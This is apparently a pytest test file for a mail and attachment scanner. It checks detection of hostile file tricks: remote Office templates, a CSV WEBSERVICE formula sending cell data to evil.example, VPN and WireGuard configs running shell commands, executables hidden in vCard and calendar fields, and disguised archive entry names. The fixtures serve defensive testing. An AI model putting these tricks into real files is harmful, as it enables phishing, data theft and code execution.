"""Places of files in which programs find names, scripts and addresses: each is read, beside an honest use of it."""

import base64
import io
import lzma
import struct
import tarfile
import zipfile
import zlib

import pytest
from tests.files import document_formats as d
from tests.files.test_coverage import report_on

from gatepost.files.documents import dispatch
from gatepost.files.documents.script_strings import find_form_scripts, join_addresses
from gatepost.files.file_types import identify
from gatepost.files.values import Contents, File, UnpackBudget
from gatepost.files.walk import find_files
from gatepost.mail.message import Message, Part
from gatepost.mail.reader import read

RELATIONSHIP = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def inspect(name: str, content: bytes) -> Contents:
    return dispatch.inspect(File(f"1/{name}", content, identify(content), "0" * 64, (name,)), UnpackBudget())


def traits(name: str, content: bytes) -> set[tuple[str, str]]:
    return {(trait.name, trait.detail) for trait in inspect(name, content).traits}


def zip_with_unicode_path(name: str, other: str, *, is_listed: bool) -> bytes:
    extra = b"\x01" + struct.pack("<I", zlib.crc32(name.encode())) + other.encode()
    info = zipfile.ZipInfo(name)
    info.extra = struct.pack("<HH", 0x7075, len(extra)) + extra
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr(info, b"WScript.Echo(1)")
    content = out.getvalue()
    return content if is_listed else content[: content.rindex(b"PK\x01\x02")]


@pytest.mark.parametrize("is_listed", [True, False])
def test_unicode_path_of_a_zip_is_a_name(is_listed: bool) -> None:
    content = zip_with_unicode_path("a.txt", "invoice.js", is_listed=is_listed)
    files = find_files(Message(parts=(Part("1", content_type="application/zip", names=("a.zip",), content=content),)))
    assert "invoice.js" in {name for file in files for name in file.names}
    assert "file:runnable-name" in report_on("a.zip", content).tags


@pytest.mark.parametrize(
    ("kind", "target", "trait"),
    [
        (
            "http://schemas.microsoft.com/office/2006/relationships/ui/extensibility",
            "https://evil.example/ui.xml",
            "remote-template",
        ),
        (f"{RELATIONSHIP}/attachedTemplate", "https://evil.example/t.dotm", "remote-template"),
        (f"{RELATIONSHIP}/aFChunk", "https://evil.example/a.mht", "remote-object"),
        (f"{RELATIONSHIP}/control", "https://evil.example/a.bin", "remote-object"),
        (f"{RELATIONSHIP}/slideMaster", "https://evil.example/a.xml", "remote-object"),
        (f"{RELATIONSHIP}/frame", "https://evil.example/a.htm", "remote-object"),
        (f"{RELATIONSHIP}/hyperlink", "https://www.example/", ""),
        (f"{RELATIONSHIP}/image", "https://www.example/logo.png", ""),
        (f"{RELATIONSHIP}/externalLinkPath", "https://house.sharepoint.example/a.xlsx", ""),
        (f"{RELATIONSHIP}/video", "https://www.video.example/1", ""),
    ],
)
def test_parts_of_office_documents_that_are_loaded_from_afar(kind: str, target: str, trait: str) -> None:
    relationship = f'<Relationship Id="r1" Type="{kind}" Target="{target}" TargetMode="External"/>'
    part = f'<?xml version="1.0"?><Relationships>{relationship}</Relationships>'
    found = traits("document.xml.rels", part.encode())
    assert found == ({(trait, target)} if trait else set())


def make_pdf(*objects: bytes) -> bytes:
    body = b"".join(b"%d 0 obj\n%b\nendobj\n" % pair for pair in enumerate(objects, 1))
    return b"%PDF-1.7\n" + body + b"trailer<</Root 1 0 R>>\n%%EOF\n"


def stream(content: bytes) -> bytes:
    return b"<</Length %d>>stream\n%b\nendstream" % (len(content), content)


def test_addresses_of_a_pdf_are_joined_with_its_base() -> None:
    content = make_pdf(
        b"<</Type/Catalog/URI<</Base(https://login.evil.example/)>>>>",
        b"<</S/URI/URI(verify?id=1)>>",
        b"<</S/URI/URI(https://www.example/a)>>",
    )
    assert {link.url for link in inspect("a.pdf", content).links} == {
        "https://login.evil.example/verify?id=1",
        "https://www.example/a",
    }
    assert list(join_addresses("", ["a/b", "https://c.example/"])) == ["a/b", "https://c.example/"]


def test_scripts_of_an_xml_form() -> None:
    script = b'<x:event><x:script contentType="application/x-javascript">app.launchURL("https://evil.example/")</x:script></x:event>'
    sums = b'<script contentType="application/x-formcalc">sum(a)</script>'
    content = make_pdf(b"<</Type/Catalog/AcroForm<</XFA[(a) 2 0 R (b) 3 0 R]>>>>", stream(script), stream(sums))
    assert ("pdf-javascript", 'app.launchURL("https://evil.example/")') in traits("a.pdf", content)
    assert find_form_scripts(sums + b"<script></script><template/>") == []


def test_payloads_of_cards_and_calendars() -> None:
    program = base64.b64encode(d.program("", b"data" * 50)).decode()
    for line in (
        f"KEY;ENCODING=b:{program}",
        f"PHOTO;ENCODING=BASE64;TYPE=JPEG:{program}",
        f"KEY:data:application/pgp-keys;base64,{program}",
    ):
        card = f"BEGIN:VCARD\r\nVERSION:3.0\r\nFN:Ann\r\n{line}\r\nEND:VCARD\r\n".encode()
        assert [identify(member.content) for member in inspect("a.vcf", card).members] == ["exe"]
        assert report_on("a.vcf", card, ("text", "vcard")).decision != "deliver"
    event = (
        f"BEGIN:VCALENDAR\r\nBEGIN:VEVENT\r\nATTACH;VALUE=URI:data:application/x-a;base64,{program}\r\nEND:VEVENT\r\n"
    )
    assert [identify(member.content) for member in inspect("a.ics", event.encode()).members] == ["exe"]
    honest = b"BEGIN:VCARD\r\nVERSION:3.0\r\nFN:Ann\r\nTEL:+49 30 1234\r\nEND:VCARD\r\n"
    assert inspect("a.vcf", honest).members == ()


@pytest.mark.parametrize(
    ("name", "content", "found"),
    [
        (
            "office.ovpn",
            b"client\nremote vpn.house.example 1194\n<ca>\n</ca>\n",
            {("connection-settings", "vpn.house.example")},
        ),
        (
            "office.ovpn",
            b'client\nremote evil.example 1194\nscript-security 2\nup "/bin/sh -c id"\n',
            {("connection-settings", "evil.example"), ("program-action", "/bin/sh -c id")},
        ),
        (
            "desk.ica",
            b"[ApplicationServers]\r\nDesk=\r\n[Desk]\r\nAddress=evil.example:1494\r\n",
            {("connection-settings", "evil.example:1494")},
        ),
        ("notes.txt", b"remote vpn.house.example 1194\n", set()),
    ],
)
def test_settings_of_connections(name: str, content: bytes, found: set[tuple[str, str]]) -> None:
    assert traits(name, content) == found


def test_tables_that_fetch() -> None:
    assert ("remote-object", "https://evil.example/?") in traits(
        "a.csv", b'name,=WEBSERVICE("https://evil.example/?"&A1)\n'
    )
    assert traits("a.csv", b"name,amount\nimport duty,12\nweb service (monthly),30\n") == set()


def message(html: str) -> bytes:
    return f"From: a@a.example\r\nContent-Type: text/html\r\n\r\n<html><body>{html}</body></html>".encode()


@pytest.mark.parametrize(
    ("target", "kinds"),
    [
        ("vscode:extension/evil.theme", {"html:protocol-link"}),
        ("ssh://root@evil.example", {"html:protocol-link"}),
        (
            "itms-services://?action=download-manifest&amp;url=https://evil.example/m.plist",
            {"html:protocol-link", "html:system-link"},
        ),
        ("ms-msdt:/id PCWDiagnostic", {"html:protocol-link", "html:system-link"}),
        ("ms-word:ofe|u|https://house.example/a.docx", {"html:protocol-link"}),
        ("zoommtg://zoom.example/join?confno=1", set()),
        ("tel:+49301234", set()),
    ],
)
def test_links_that_start_programs(target: str, kinds: set[str]) -> None:
    found = {defect.kind for defect in read(message(f'<a href="{target}">Open</a>')).defects}
    assert {kind for kind in found if kind.endswith("-link")} == kinds


@pytest.mark.parametrize(
    "sheet", ["@\\69mport 'https://evil.example/a.css';", "p{background:u\\72 l(https://evil.example/a.png)}"]
)
def test_escapes_of_style_sheets(sheet: str) -> None:
    links = read(message(f"<style>{sheet}</style><p>Hello")).links
    assert "evil.example" in {link.host for link in links}


@pytest.mark.parametrize("padding", [0, 4, 64])
def test_streams_of_xz_with_padding(padding: int) -> None:
    content = lzma.compress(b"first\n") + bytes(padding) + lzma.compress(b"second\n") + bytes(padding)
    files = find_files(
        Message(parts=(Part("1", content_type="application/x-xz", names=("a.txt.xz",), content=content),))
    )
    assert [(file.unread, file.content) for file in files[1:]] == [((), b"first\nsecond\n")]
    assert files[0].unread == ()


PROGRAM = base64.b64encode(d.program("", b"data" * 50)).decode()


def find_in(name: str, content: bytes) -> tuple[File, ...]:
    return find_files(Message(parts=(Part("1", names=(name,), content=content),)))


def extra_field(kind: int, payload: bytes) -> bytes:
    info = zipfile.ZipInfo("a.txt")
    info.extra = struct.pack("<HH", kind, len(payload)) + payload
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr(info, b"x")
    return out.getvalue()


def tar_with(**fields: str) -> bytes:
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w", format=tarfile.PAX_FORMAT) as archive:
        entry = tarfile.TarInfo("a.txt")
        entry.size, entry.pax_headers = 1, fields
        archive.addfile(entry, io.BytesIO(b"x"))
    return out.getvalue()


@pytest.mark.parametrize(
    ("name", "content"),
    [
        ("a.zip", extra_field(0x554E, b"NUCX" + struct.pack("<H", 10) + "invoice.js".encode("utf-16-le"))),
        ("a.tar", tar_with(path="invoice.js")),
        ("a.tar", tar_with(**{"GNU.sparse.name": "invoice.js"})),
    ],
)
def test_every_field_that_names_an_entry_is_a_name(name: str, content: bytes) -> None:
    assert "invoice.js" in {known for file in find_in(name, content) for known in file.names}


@pytest.mark.parametrize(
    "line",
    [
        f"LOGO;ENCODING=b;TYPE=PNG:{PROGRAM}",
        f"SOUND;TYPE=WAVE;ENCODING=BASE64:{PROGRAM}",
        f"X-DATA;ENCODING=b:{PROGRAM}",
        f"item1.KEY;ENCODING=b:{PROGRAM}",
        f'KEY;X="a:b";ENCODING=b:{PROGRAM}',
        f'KEY;ENCODING="b":{PROGRAM}',
        "NOTE;ENCODING=QUOTED-PRINTABLE:" + "".join(f"={byte:02X}" for byte in base64.b64decode(PROGRAM)),
    ],
)
def test_payloads_of_every_property_of_a_card(line: str) -> None:
    card = f"BEGIN:VCARD\r\nVERSION:3.0\r\nFN:Ann\r\n{line}\r\nEND:VCARD\r\n".encode()
    assert "exe" in [identify(file.content) for file in find_in("a.vcf", card)]


def event(line: str) -> bytes:
    return f"BEGIN:VCALENDAR\r\nBEGIN:VEVENT\r\n{line}\r\nEND:VEVENT\r\nEND:VCALENDAR\r\n".encode()


def test_payloads_links_and_programs_of_events() -> None:
    for line in (f"IMAGE;VALUE=BINARY;ENCODING=BASE64:{PROGRAM}", f'ATTACH;X-A="b:c";ENCODING=BASE64:{PROGRAM}'):
        assert "exe" in [identify(file.content) for file in find_in("a.ics", event(line))]
    for line in (
        "CONFERENCE;VALUE=URI:https://evil.example/join",
        'STYLED-DESCRIPTION;VALUE=TEXT;FMTTYPE=text/html:<a href="https://evil.example/">x</a>',
    ):
        assert "evil.example" in {link.host for file in find_in("a.ics", event(line)) for link in file.links}
    alarm = "BEGIN:VALARM\r\nACTION:PROCEDURE\r\nATTACH:file:///c:/calc.exe\r\nEND:VALARM"
    assert ("program-action", "alarm of a calendar") in traits("a.ics", event(alarm))
    assert traits("a.ics", event("BEGIN:VALARM\r\nACTION:DISPLAY\r\nEND:VALARM")) == set()


def test_connections_of_workbooks() -> None:
    web = b'<?xml version="1.0"?><connections><connection><webPr url="https://evil.example/q"/></connection></connections>'
    assert "evil.example" in {link.host for link in inspect("connections.xml", web).links}
    base = (
        b'<?xml version="1.0"?><connections><connection><dbPr connection="SERVER=%b;UID=a"/></connection></connections>'
    )
    assert traits("connections.xml", base % b"evil.example") == {("connection-settings", "evil.example")}
    assert traits("connections.xml", base % b"(local)") == set()


@pytest.mark.parametrize(
    "form",
    [
        b'<submit target="https://evil.example/p" format="xml"/>',
        b"<soapAddress>https://evil.example/s</soapAddress>",
        b'<image href="https://evil.example/i.png"/>',
    ],
)
def test_addresses_of_an_xml_form(form: bytes) -> None:
    content = make_pdf(b"<</Type/Catalog/AcroForm<</XFA 2 0 R>>>>", stream(b"<template>" + form + b"</template>"))
    assert "evil.example" in {link.host for link in inspect("a.pdf", content).links}


def test_a_form_that_is_a_file_of_its_own() -> None:
    script = b"<script contentType='application/x-javascript'>app.launchURL(\"https://evil.example/\")</script>"
    form = b'<?xml version="1.0"?><xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/">' + script + b"</xdp:xdp>"
    assert ("pdf-javascript", 'app.launchURL("https://evil.example/")') in traits("a.xdp", form)


def test_other_settings_of_connections_and_folders() -> None:
    tunnel = b"[Interface]\nPrivateKey=x\nPostUp = /bin/sh -c id\n[Peer]\nEndpoint = evil.example:51820\n"
    assert traits("wg0.conf", tunnel) == {
        ("connection-settings", "evil.example:51820"),
        ("program-action", "/bin/sh -c id"),
    }
    folder = b"[.ShellClassInfo]\r\nIconResource=\\\\evil.example\\s\\a.ico,0\r\n"
    assert {name for name, _ in traits("desktop.ini", folder)} == {"shortcut-to-share"}
    assert ("remote-object", "evil.server") in traits("a.csv", b'=RTD("evil.server",,"x")\n')


@pytest.mark.parametrize(
    "sheet",
    [
        "@import/**/'https://evil.example/a.css';",
        "@IMPORT URL( 'https://evil.example/a.css' ) layer(a) screen;",
        "@import 'https:\\2f\\2f evil.example/a.css';",
        "@import 'https://evil.\\\nexample/a.css';",
        "p{background:image-set('https://evil.example/a.png' 1x)}",
        "p{background:src('https://evil.example/a.png')}",
        "@font-face{font-family:a;src:u\\52l(https://evil.example/a.woff)}",
    ],
)
def test_addresses_of_style_sheets_in_every_form(sheet: str) -> None:
    assert "evil.example" in {link.host for link in read(message(f"<style>{sheet}</style><p>Hello")).links}
